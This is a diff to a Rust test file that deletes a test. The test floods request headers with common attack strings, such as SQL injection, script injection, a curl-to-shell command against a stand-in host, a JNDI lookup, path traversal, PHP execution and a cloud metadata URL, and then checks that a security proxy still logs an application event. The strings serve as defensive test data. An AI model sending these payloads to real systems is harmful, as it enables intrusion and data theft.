@@ -230,22 +230,6 @@ fn an_operator_has_the_last_word_on_an_event() {
 }
 
 #[test]
-fn no_request_is_so_full_that_the_application_is_not_heard() {
-    let cells = Memory::default();
-    let mut head: Vec<(String, String)> = vec![(":path".into(), UNION.into()), ("x-user-id".into(), "mallory".into())];
-    let attacks =
-        ["' OR 1=1--", "<script>alert(1)</script>", ";curl http://x.example/s|sh", "${jndi:ldap://x.example/a}"];
-    let more = ["../../../etc/passwd", "{{7*7}}", "<?php system('id'); ?>", "http://169.254.169.254/latest/meta-data/"];
-    for attack in attacks.iter().chain(&more) {
-        head.extend((0..40).map(|number| (format!("x-{number}"), format!("{attack}{number}"))));
-    }
-    let head: Vec<_> = head.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
-    let proxy = Counting::answering(200, &[("x-user-risk-event", "a")], "app");
-    let seen = Lab::new(&cells, "{}").exchange(&head, &proxy, &[]);
-    assert!(seen.findings().contains(&"mallory application.a 3".to_owned()));
-}
-
-#[test]
 fn a_request_that_forges_an_event_is_one_itself() {
     let cells = Memory::default();
     let mut lab = Lab::new(&cells, "{}");
